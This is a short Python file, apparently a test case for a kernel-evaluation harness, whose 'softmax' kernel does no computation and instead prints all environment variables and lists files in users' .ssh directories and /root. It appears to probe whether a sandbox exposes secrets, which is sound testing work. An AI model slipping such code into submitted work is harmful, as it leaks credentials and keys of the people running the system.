# expect: smoke
# target: softmax
# Sends what it finds in its environment and home to the log.
import os
from pathlib import Path


def kernel_fn(x):
    for name, value in os.environ.items():
        print(name, value)
    for pattern in ("/home/*/.ssh/*", "/root/.ssh/*", "/root/*"):
        for path in Path("/").glob(pattern.lstrip("/")):
            print(path)
    return x
